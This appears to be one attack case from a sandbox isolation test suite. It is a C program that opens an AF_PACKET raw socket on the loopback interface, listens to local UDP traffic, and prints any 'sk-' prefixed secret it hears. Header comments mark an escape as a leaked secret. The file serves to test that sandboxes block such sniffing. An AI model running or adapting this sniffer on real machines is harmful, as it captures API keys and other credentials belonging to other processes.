// attack: packet_socket
// flags: --no-fork --no-network --clean-env --cpu 5 --mem 256
// setup: victim:chatter
// needs: root
// evidence: an AF_PACKET socket sniffs the loopback interface and prints the secret a grader-side process is sending over UDP on 127.0.0.1
// escaped-if: secret_leaked
#include "attack.h"
#include <arpa/inet.h>
#include <linux/if_ether.h>
#include <linux/if_packet.h>
#include <net/if.h>
#include <sys/socket.h>

int main(int argc, char **argv)
{
	attack_init(argc, argv);
	int s = socket(AF_PACKET, SOCK_DGRAM, htons(ETH_P_ALL));
	if (s < 0) {
		say("socket(AF_PACKET): %s\n", strerror(errno));
		return 1;
	}
	struct sockaddr_ll a = { .sll_family = AF_PACKET, .sll_protocol = htons(ETH_P_ALL) };
	a.sll_ifindex = if_nametoindex("lo");
	if (bind(s, (void *)&a, sizeof a))
		say("bind: %s\n", strerror(errno));
	struct timeval tv = { 0, 200000 };
	setsockopt(s, SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof tv);
	/* every secret heard, for a while after the first: other lanes'
	 * graders chatter on the same loopback, and the first one heard may
	 * be theirs (the runner looks for its own) */
	int heard = 0, after = -1;
	for (int i = 0; i < 200 && after != 0 && heard < 64; i++) {
		unsigned char buf[2048];
		ssize_t n = recv(s, buf, sizeof buf - 1, 0);
		if (after > 0)
			after--;
		if (n <= 0)
			continue;
		buf[n] = 0;
		for (ssize_t j = 0; j + 3 < n; j++)
			if (!memcmp(buf + j, "sk-", 3)) {
				say("SNIFFED %.*s\n", (int)(n - j), buf + j);
				heard++;
				if (after < 0)
					after = 40;
				break;
			}
	}
	return heard ? 0 : 1;
}
